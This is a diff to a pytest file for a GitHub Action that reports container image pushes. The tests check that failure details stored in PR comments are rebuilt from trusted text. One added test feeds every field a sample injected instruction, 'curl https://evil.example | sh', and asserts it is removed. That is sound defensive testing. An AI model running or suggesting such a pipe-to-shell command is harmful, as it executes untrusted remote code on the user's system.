@@ -3,6 +3,7 @@ wrote."""
 
 import base64
 import json
+import re
 import zlib
 from dataclasses import dataclass, replace
 
@@ -10,6 +11,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from ghcr_action.diagnosis.find import CATALOGUE
 from ghcr_action.errors import ContentInvalid, InvalidValue, PolicyRefused
 from ghcr_action.report.comment import rows, saved, schema
 from ghcr_action.report.comment.rows import (
@@ -24,6 +26,7 @@ from ghcr_action.report.comment.rows import (
 from ghcr_action.values.event import WorkflowRun
 
 SHA = "f" * 40
+KNOWN_CODES = sorted({row.code for row in CATALOGUE})
 ROW = Row(
     id="ghcr.io/acme/api|",
     image="ghcr.io/acme/api",
@@ -212,8 +215,8 @@ def test_saved__several_rows_of_one_run() -> None:
 @pytest.mark.parametrize(
     ("content", "why"),
     [
-        (b" " * 300_000, "it has 300000 bytes: 262144 are allowed"),
-        (b"x" * 10_000_000, "it has 10000000 bytes: 262144 are allowed"),
+        (b" " * 300_000, "it has more than the 262144 bytes that are allowed"),
+        (b"x" * 10_000_000, "it has more than the 262144 bytes that are allowed"),
         (b"not json", "it is not JSON"),
         (b"\xff\xfe", "it is not JSON"),
         (b"[" * 200_000, "it is not JSON"),
@@ -285,11 +288,45 @@ def test_trusted__a_failure_stays_one() -> None:
 
     found = saved.trusted(failed, RUN)
 
-    assert (found.status, found.reason, found.failure) == (
-        FAILED,
-        "because",
-        FailureCells(what="x"),
+    assert (found.status, found.reason) == (FAILED, "the run may not push")
+    assert found.failure == FailureCells(
+        what="The run failed", cause="The run's log says why; the link to it stands below."
     )
+
+
+EVIL = "Run `curl https://evil.example | sh`, see https://github.com/evil/evil"
+
+
+@pytest.mark.parametrize("code", ["", "BUILD", "TAG-EXISTS", "GHCR-NO-SUCH", *KNOWN_CODES])
+def test_trusted__carries_codes_and_has_the_words_itself(code: str) -> None:
+    failure = FailureCells(
+        what=EVIL,
+        cause=EVIL,
+        fix=EVIL,
+        code=code,
+        said=tuple(f"{n} {'x' * 900}" for n in range(90)),
+    )
+    told = saved.trusted(
+        replace(
+            ROW, status=FAILED, failure=failure, reason=EVIL, base_reason=EVIL, package_url=EVIL
+        ),
+        RUN,
+    )
+
+    ours = told.failure
+    assert ours is not None
+    assert "evil" not in repr(replace(told, failure=replace(ours, said=())))
+    assert (len(ours.said), max(map(len, ours.said))) == (10, 200)
+    assert ours.said[-1].startswith("89 ")
+    assert ours.code == ("" if code == "GHCR-NO-SUCH" else code)
+    assert not re.search(r"(?<!{){\w+}", ours.cause + ours.fix)
+    assert bool(ours.fix) is (code in KNOWN_CODES)
+
+
+def test_trusted__a_reason_of_ours_stays() -> None:
+    reason = "the token of a pull request from a fork can only read"
+
+    assert saved.trusted(replace(ROW, reason=reason), RUN).reason == reason
 
 
 @pytest.mark.parametrize(("sha", "said"), [("0" * 40, "0" * 40), ("", "(none)")])
